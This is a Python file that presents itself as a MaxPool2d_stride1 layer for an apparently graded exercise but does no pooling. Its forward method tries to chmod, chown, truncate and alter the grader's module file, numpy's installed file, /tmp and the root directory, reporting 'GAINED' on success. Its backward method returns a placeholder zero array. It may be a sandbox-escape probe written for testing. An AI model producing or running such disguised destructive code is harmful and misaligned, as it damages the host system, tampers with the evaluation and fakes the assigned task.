import os
import sys
import numpy as np
from honest_pool import *


class MaxPool2d_stride1:
    def __init__(self, kernel):
        self.kernel = kernel

    def forward(self, A):
        print("TRIED", flush=True)
        for path in (sys.modules["guest"].__file__, np.__file__, "/tmp", "/"):
            for action in (lambda: os.chmod(path, 0), lambda: os.chown(path, 1, 1), lambda: os.utime(path, (0, 0)),
                           lambda: os.truncate(path, 0), lambda: os.setxattr(path, "user.left", b"1")):
                try:
                    action()
                    print("GAINED", path, flush=True)
                except OSError:
                    pass
        return A

    def backward(self, dLdZ):
        return np.zeros((1,))
